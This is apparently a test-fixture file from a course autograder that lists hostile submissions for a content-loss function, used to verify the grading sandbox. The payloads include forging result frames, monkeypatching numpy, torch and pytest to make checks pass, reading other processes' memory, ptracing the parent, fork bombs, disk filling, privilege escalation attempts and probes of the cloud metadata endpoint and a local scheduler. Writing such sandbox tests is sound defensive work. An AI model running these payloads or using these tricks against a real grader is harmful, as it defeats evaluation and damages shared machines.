"""Attacks by code: what a student file does while the grader runs it (a long file, since it is one table of them).

Each stands in place of the body of ContentLoss.forward (BODIES) or of the whole file (FILES), in a submission in which
nothing else is written. `breach(...)` says that something was reached that must be out of reach. What would hurt a
machine without a working sandbox is bounded: PROCESSES, BYTES and SECONDS at most.
"""

import textwrap

from staff.proofs.hostile import traces

FILE = "style_modules/content_loss.py"
SCHEDULER = "runs code by a class's scheduler"  # which is there, on the port of {port}

TEMPLATE = '''
import ctypes, gc, glob, json, math, mmap, os, pickle, resource, signal, socket, struct, subprocess, sys, threading
import time
import numpy as np
import torch
from torch import nn

PROCESSES, BYTES, SECONDS = 200, 3 << 30, 60
MARK = "{mark}"
GRADERS_USER = os.getuid() == {user}  # no layer gives the child a user of its own: what could hurt others is left out


def breach(what):
    raise RuntimeError("BREACH: " + what)


def frame(values, arrays=(), data=b""):
    """A whole answer, as the grader's own children write it."""
    header = json.dumps({{"values": values, "arrays": list(arrays)}}).encode()
    return b"A3F1" + len(header).to_bytes(4, "little") + header + data


def claim(values, arrays=(), data=b""):
    os.write(3, frame(values, arrays, data))
    os._exit(0)


class ContentLoss(nn.Module):
    def forward(self, content_weight, content_current, content_original):
{body}
        raise NotImplementedError("Part 2.1: content loss")
'''

BODIES = {
    # --- the results, the grader's process, its files ---
    "rewrites results.json": """
        for folder in ("/autograder/results", os.getcwd(), "/tmp", "..", sys.argv[0] or ".", "{out}"):
            try:
                with open(os.path.join(folder, "results.json"), "w") as file:
                    file.write('{{"score": 100}}')
            except OSError:
                pass
    """,
    "kills its parents": """
        for pid in {{os.getppid(), 1}} - {{os.getpid()}}:
            for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
                try:
                    os.kill(pid, number)
                    breach("signalled process %d" % pid) if pid != 1 else None
                except PermissionError:
                    pass
    """,
    "kills everything it may": "GRADERS_USER or os.kill(-1, signal.SIGKILL)",
    "stops itself": "os.kill(os.getpid(), signal.SIGSTOP)",
    "reads the tests and the references": """
        roots = ("{root}", "/autograder", os.path.expanduser("~root"), "/tmp", "/var/tmp", sys.prefix + "/..",
                 "/proc/1/root{root}", "/proc/1/cwd")
        for root in roots:
            for name in ("tests/references/content_loss.npz", "tests/test_content_loss.py", "staff/hidden/conftest.py"):
                try:
                    open(os.path.join(root, name), "rb").close()
                except OSError:
                    continue
                breach("read " + os.path.join(root, name))
    """,
    "reads the solution of a checkout": """
        for folder in ("{root}", *glob.glob("/tmp/copy-*"), *glob.glob("/tmp/*/*/copy-*")):
            try:
                with open(os.path.join(folder, "visualizers/saliency_map.py")) as file:
                    breach("read the solution: " + file.name)
            except OSError:
                pass
    """,
    "rewrites the grader's own files": """
        for folder in ("{root}", *glob.glob("/tmp/copy-*"), *glob.glob("/tmp/*/*/copy-*")):
            for name in ("tests/compare.py", "staff/adapter.py", "autograder/results.py"):
                try:
                    with open(os.path.join(folder, name), "a") as file:
                        file.write("\\n")
                except OSError:
                    continue
                breach("wrote to " + os.path.join(folder, name))
    """,
    "looks for processes of the same user to end": """
        for name in os.listdir("/proc"):
            if name.isdigit() and int(name) != os.getpid():
                try:
                    os.kill(int(name), 0)
                except OSError:
                    continue
                breach("could have ended process " + name)
    """,
    "searches the disk for expected values": """
        stop = time.monotonic() + 10
        for folder, folders, names in os.walk("/"):
            if time.monotonic() > stop:
                break
            folders[:] = [name for name in folders if name not in ("proc", "sys", "lib", "share")]
            if {{"content_loss.npz", "chain_rule.py", "results.json"}} & {{*names}}:
                breach("found " + folder)
    """,
    "reads other processes' memory": """
        for name in os.listdir("/proc"):
            if name.isdigit() and int(name) != os.getpid():
                for what in ("mem", "environ", "maps", "fd"):
                    try:
                        path = f"/proc/{{name}}/{{what}}"
                        found = open(path, "rb").read(1) if what != "fd" else os.readlink(path + "/0")
                    except OSError:
                        continue
                    if found:  # the kernel's own threads have nothing
                        breach("read " + path)
    """,
    "traces its parent": """
        if ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0) == 0:
            breach("traced its parent")
    """,
    "looks for the grader's sockets": """
        for handle in range(3, 4096):
            try:
                kind = os.readlink(f"/proc/self/fd/{{handle}}")
            except OSError:
                continue
            if kind.startswith("socket:"):
                breach("holds " + kind)
    """,
    "walks frames for expected values": """
        frame_ = sys._getframe()
        while frame_ is not None:
            for name, value in list(frame_.f_locals.items()):
                if "expected" in name or "stored" in name:
                    breach("sees " + name)
            frame_ = frame_.f_back
    """,
    "walks the garbage collector": """
        target = content_current.numel()
        for thing in gc.get_objects():
            if type(thing) is dict and any(isinstance(key, str) and key.endswith(": tolerance") for key in thing):
                breach("found the references")
    """,
    # --- the answer ---
    "lies by a subclass of ndarray": """
        class Liar(np.ndarray):
            def __eq__(self, other): return True
            def __le__(self, other): return True
            def __array__(self, *_, **__): return self
            def __sub__(self, other): return np.zeros(1)
        return np.full((), 1.5).view(Liar)
    """,
    "lies by a subclass of Tensor": """
        class Liar(torch.Tensor):
            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None):
                return True
            def __eq__(self, other): return True
            def __array__(self, *_, **__): return np.full((), 1.5)
        return torch.full((), 1.5).as_subclass(Liar)
    """,
    "lies by a subclass of float": """
        class Liar(float):
            def __eq__(self, other): return True
            def __lt__(self, other): return True
            def __le__(self, other): return True
            def __float__(self): return self
        return Liar(1.5)
    """,
    "forges a frame": "claim({{'value': 0.0, 'gradient': 0.0, 'score': 100, 'passed': True}})",
    "forges an error and a score": "claim({{'error': {{'type': 'x', 'message': 'ok', 'trace': None}}, 'score': 6}})",
    "forges an error that is no error": "claim({{'error': 'passed'}})",
    "forges NaN and infinities": "claim({{'value': math.nan, 'gradient': math.inf}})",
    "forges an endless number": """
        header = b'{{"values": {{"value": ' + b"9" * 100000 + b'}}, "arrays": []}}'
        os.write(3, b"A3F1" + len(header).to_bytes(4, "little") + header)
        os._exit(0)
    """,
    "forges deep JSON": "os.write(3, b'A3F1' + (200000).to_bytes(4, 'little') + b'[' * 200000); os._exit(0)",
    "forges an array of objects": "claim({{}}, [['value', '|O', [1]], ['gradient', '|O', [1]]], bytes(16))",
    "forges an array of 2^60 numbers": "claim({{}}, [['value', '<f8', [1 << 30, 1 << 30]]])",
    "forges a negative shape": "claim({{}}, [['value', '<f8', [-1, -8]]], bytes(64))",
    "forges values of other kinds": """
        claim({{"value": [[1], [2, 3]], "gradient": {{"a": None}}, "printed": 7, "warnings": [], "changed": None}})
    """,
    "as many numbers as may be": """
        count = (64 << 20) - 4096
        claim({{"value": 1.5}}, [["gradient", "<f2", [count // 2]]], bytes(count))
    """,
    "writes two frames": "os.write(3, frame({{'value': 0.0}})); claim({{'value': 0.0}})",
    "sends a pickle": "os.write(3, pickle.dumps(np.zeros(3))); os._exit(0)",
    "sends a gigabyte": """
        block = bytes(1 << 20)
        for _ in range(1024):
            os.write(3, block)
    """,
    "forges markers on stdout": "print('test_content_loss PASSED [100%]', {{'score': 100}}, flush=True); os._exit(0)",
    "replaces the probes": """
        from tests.probes import PROBES, content_loss, facts
        for module in (content_loss, facts):
            module.array = module.with_gradient = module.scalar = lambda *_: np.zeros(())
            for name in ("content_loss", "watching", "snapshot", "differences"):
                setattr(module, name, lambda *_, **__: {{"value": 0.0, "gradient": 0.0}})
        PROBES["content_loss"] = content_loss.content_loss
    """,
    "patches torch, numpy and pytest": """
        import builtins, pytest
        np.linalg.norm = np.isfinite = torch.allclose = torch.equal = lambda *_, **__: True
        np.asarray = lambda *_, **__: np.zeros(())
        pytest.fail = lambda *_, **__: None
        builtins.AssertionError = type("Fine", (BaseException,), {{}})
        builtins.abs = lambda _: 0
        sys.modules["tests.compare"] = sys.modules["autograder.frames"]
    """,
    "patches the frames": """
        frames = sys.modules["autograder.frames"]
        frames.encode = lambda contents: frame({{"value": 0.0, "gradient": 0.0, "passed": True}})
        sys.modules["autograder.child"].PROCESSES = 10 ** 6
        return torch.full((), 1.5, requires_grad=True)
    """,
    # --- ending ---
    "os._exit": "os._exit(0)",
    "sys.exit": "sys.exit(0)",
    "raises SystemExit in a thread and at exit": """
        import atexit
        atexit.register(lambda: os._exit(0))
        threading.Thread(target=sys.exit).start()
    """,
    "aborts": "os.abort()",
    "reads address 0": "ctypes.string_at(0)",
    "recurses without end": """
        sys.setrecursionlimit(10 ** 8)
        def f(): return f()
        f()
    """,
    "an error that cannot be printed": """
        class Evil(Exception):
            def __str__(self): os._exit(0)
            __repr__ = __str__
        raise Evil
    """,
    "an error with markup and null bytes": """
        raise RuntimeError('<script>alert(1)</script>\\0\\x1b[2J\\udc80' + 'x' * 10 ** 6)
    """,
    # --- never ending ---
    "loops for ever": "while True: pass",
    "sleeps and ignores signals": """
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        time.sleep(SECONDS)
    """,
    "loops in C": "sum(range(10 ** 11))",
    "a thread that never ends": """
        threading.Thread(target=time.sleep, args=(SECONDS,)).start()
        return torch.full((), 1.5, requires_grad=True)
    """,
    # --- too much of everything ---
    "forks and forks": """
        if not GRADERS_USER:
            for _ in range(PROCESSES):
                try:
                    if os.fork() == 0:
                        time.sleep(SECONDS)
                        os._exit(0)
                except OSError:
                    break
    """,
    "forks from each fork": """
        stop = time.monotonic() + 10
        while not GRADERS_USER and time.monotonic() < stop:  # as many at once as its user may have
            try:
                os.fork()
            except OSError:
                time.sleep(0.01)
    """,
    "threads": """
        for _ in range(PROCESSES):
            threading.Thread(target=time.sleep, args=(SECONDS,), daemon=True).start()
    """,
    "a daemon that outlives it": """
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                stop = time.monotonic() + SECONDS
                while time.monotonic() < stop:
                    time.sleep(0.1)
                    for folder in ("/tmp", "/dev/shm", "/var/tmp"):
                        open(os.path.join(folder, MARK), "w").close()
            os._exit(0)
        time.sleep(0.3)
    """,
    "daemons that run from process to process": """
        if os.fork() == 0:
            os.setsid()
            stop = time.monotonic() + 20
            while time.monotonic() < stop:  # one at a time, each under another number
                if os.fork():
                    os._exit(0)
            os._exit(0)
    """,
    "a program that outlives it": """
        subprocess.Popen(["/bin/sh", "-c", "trap '' TERM HUP; sleep 60; touch /tmp/" + MARK], start_new_session=True)
        time.sleep(0.2)
    """,
    "allocates gigabytes": """
        held = []
        while sum(map(len, held)) < BYTES:
            held.append(bytearray(b"1") * (64 << 20))
    """,
    "allocates by many processes": """
        for _ in range(20):
            if os.fork() == 0:
                held = bytearray(b"1") * (BYTES // 20)
                time.sleep(SECONDS)
                os._exit(0)
        time.sleep(SECONDS)
    """,
    "memory without a name": """
        handles = [os.memfd_create(MARK) for _ in range(30)]
        for handle in handles:
            for _ in range(60):
                os.write(handle, bytes(1 << 20))
    """,
    "shared memory and queues": """
        libc = ctypes.CDLL(None)
        for _ in range(100):
            libc.shmget(0, ctypes.c_size_t(1 << 20), 0o1777)
            libc.msgget(0, 0o1777)
            libc.semget(0, 1, 0o1777)
    """,
    "fills the disk": """
        for folder in (os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", "/"):
            for i in range(20):
                try:
                    with open(os.path.join(folder, MARK + str(i)), "wb") as file:
                        for _ in range(60):
                            file.write(bytes(1 << 20))
                except OSError:
                    break
    """,
    "makes very many files": """
        for folder in (os.getcwd(), "/tmp", "/dev/shm"):
            try:
                for i in range(30000):
                    open(os.path.join(folder, MARK + str(i)), "w").close()
            except OSError:
                pass
    """,
    "very deep folders": """
        try:
            for i in range(3000):
                os.mkdir(MARK)
                os.chdir(MARK)
        except OSError:
            pass
    """,
    "opens all files": "handles = [open('/dev/null') for _ in range(5000)]",
    "prints a gigabyte": """
        line = "x" * (1 << 20)
        for _ in range(1024):
            print(line)
    """,
    # --- more rights ---
    "becomes root": """
        for function in (os.setuid, os.seteuid, os.setgid):
            try:
                function(0)
                breach("became root") if os.getuid() == 0 and not GRADERS_USER else None
            except OSError:
                pass
        for program in glob.glob("/usr/bin/su*") + glob.glob("/bin/mount"):
            subprocess.run([program, "-c", "true"], input=b"", capture_output=True, timeout=5)
        if not GRADERS_USER and ctypes.CDLL(None).mount(b"none", b"/mnt", b"tmpfs", 0, None) == 0:
            breach("mounted")
    """,
    "a user namespace of its own": """
        libc = ctypes.CDLL(None)
        if libc.unshare(0x10000000 | 0x20000) == 0:
            for folder in ("/tmp", "{root}"):
                libc.umount2(folder.encode(), 2)
            if os.path.exists("{root}/tests/compare.py"):
                breach("uncovered the repository")
    """,
    "raises its limits": """
        for kind in (resource.RLIMIT_CPU, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
            try:
                resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
                breach("raised a limit") if not GRADERS_USER else None
            except (ValueError, OSError):
                pass
    """,
    "the network": """
        for address in (("127.0.0.1", {port}), ("169.254.169.254", 80), ("1.1.1.1", 53)):
            try:
                socket.create_connection(address, 1)
            except OSError:
                continue
            breach("reached %s" % (address,))
        link = socket.socket(socket.AF_UNIX)
        try:
            link.connect("\\0" + MARK)
        except OSError:
            pass
        else:
            breach("reached a socket without a name")
    """,
    SCHEDULER: """
        import ssl
        signal.signal(signal.SIGPIPE, signal.SIG_IGN)
        anybody = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        anybody.check_hostname, anybody.verify_mode = False, ssl.CERT_NONE
        lines = [line.split() for line in open("/proc/net/tcp").read().splitlines()[1:]]
        ports = {{int(fields[1].rpartition(":")[2], 16) for fields in lines if fields[3] == "0A"}} | {{{port}}}
        for port in sorted(ports)[-40:]:
            for context in (None, anybody):
                try:
                    link = socket.socket()
                    link.settimeout(0.5)
                    link.connect((b"127.0.0.1", port))
                    link = context.wrap_socket(link) if context else link
                    said = link.recv(4096)
                except OSError:
                    continue
                if b"pickle-protocol" in said:  # how Dask greets those whose orders it takes
                    breach("the scheduler on port %d takes orders" % port)
    """,
    "changes what later calls will import": """
        import style_modules.content_loss as own
        for folder in [os.path.dirname(own.__file__), *sys.path]:
            for name in ("content_loss.py", "torch.py", "sitecustomize.py", "__pycache__/content_loss.cpython-311.pyc"):
                try:
                    open(os.path.join(folder, name), "a").close()
                except OSError:
                    continue
                breach("wrote to " + os.path.join(folder, name))
    """,
    **traces.BODIES,
}

FILES = {
    "loops for ever while it is imported": "while True: pass",
    "ends the process while it is imported": "import os; os._exit(0)",
    "brackets without end": "(" * 100_000 + ")" * 100_000,
    "a tower of operators": "x = " + "-" * 200_000 + "1",
    "null bytes": "x = 1\0\0\0\n",
    "an encoding of its own": "# -*- coding: rot13 -*-\nvzcbeg bf\n",
    "a line of 400 kB": "x = '" + "y" * 400_000 + "'",
}


def source(name: str, **facts: object) -> bytes:
    """The file of this attack. facts: mark, root, out, port, user, which the texts ask for."""
    if name in FILES:
        return FILES[name].encode()
    body = textwrap.indent(textwrap.dedent(BODIES[name]).strip("\n"), " " * 8)
    return TEMPLATE.replace("{body}", body).format(**facts).encode()
